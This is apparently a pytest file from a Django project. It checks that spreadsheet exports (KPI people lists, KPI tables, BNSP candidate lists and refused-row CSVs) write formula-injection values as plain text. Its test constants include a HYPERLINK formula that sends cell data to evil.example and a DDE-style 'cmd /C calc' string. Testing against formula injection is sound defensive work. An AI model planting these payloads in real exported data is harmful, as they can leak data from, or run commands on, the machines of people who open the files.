"""Issue 16, item 1: a person, unit, programme or assessor named like a spreadsheet formula is exported as text in
every XLSX and CSV export (the KPI people list, the KPI table, the BNSP candidate list, an import's refused rows)."""

import csv
import io
import zipfile

from openpyxl import load_workbook

from bekal.certification.models import AssessmentEvent
from bekal.jobs.models import Job, JobStatus
from bekal.jobs.reports import refused_rows_csv
from bekal.jobs.services import job_start
from bekal.organizations.models import Organization
from bekal.people.models import Person
from bekal.training.models import Programme

PAYLOAD = '=HYPERLINK("http://evil.example/?d="&C2,"klik")'
PLUS = '+HYPERLINK("http://evil.example/","x")'
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-1+1"


def _poison() -> None:
    """Put formula payloads in every text column an export reads."""
    Person.objects.update(full_name=PAYLOAD)
    for pk in Organization.objects.values_list("pk", flat=True):
        Organization.objects.filter(pk=pk).update(name=f"{PLUS}{pk}")
    for pk in Programme.objects.values_list("pk", flat=True):
        Programme.objects.filter(pk=pk).update(name=f"{MINUS}{pk}", scheme="")
    AssessmentEvent.objects.update(assessor=AT)


def _run(actor, kind, params, capture) -> bytes:
    with capture(execute=True):
        job = job_start(actor=actor, kind=kind, params=params)
    job = Job.objects.get(pk=job.pk)
    assert job.status == JobStatus.DONE, job.summary
    with job.result.open("rb") as f:
        return f.read()


def _assert_no_formula(content: bytes) -> list[str]:
    """Fail on any formula in the workbook; return every text cell read back."""
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        xml = "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))
    assert "<f>" not in xml and "<f " not in xml
    texts = []
    for sheet in load_workbook(io.BytesIO(content)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    return texts


def test_every_export_writes_formula_payloads_as_text(demo, django_capture_on_commit_callbacks):
    _poison()
    national, officer = demo["ditjenpas"], demo["martapura.bimker"]

    people = _assert_no_formula(
        _run(
            national,
            "kpis.people_xlsx",
            {"kpi": "certification", "part": "denominator"},
            django_capture_on_commit_callbacks,
        )
    )
    assert PAYLOAD in people  # the name is kept, as text
    assert any(t.startswith(PLUS) for t in people)  # the unit

    table = _assert_no_formula(_run(national, "kpis.table_xlsx", {"by": "unit"}, django_capture_on_commit_callbacks))
    assert any(t.startswith(PLUS) for t in table)

    event = (
        AssessmentEvent.objects.filter(batch__units=officer.organization, decisions__isnull=False).distinct().first()
    )
    assert event is not None
    bnsp = _assert_no_formula(
        _run(officer, "certification.bnsp_xlsx", {"event": event.pk}, django_capture_on_commit_callbacks)
    )
    assert PAYLOAD in bnsp and AT in bnsp and any(t.startswith(MINUS) for t in bnsp)

    refused = list(csv.reader(io.StringIO(refused_rows_csv([(2, [PAYLOAD]), (3, [AT])]).decode("utf-8-sig"))))
    assert [r[1] for r in refused[1:]] == ["'" + PAYLOAD, "'" + AT]
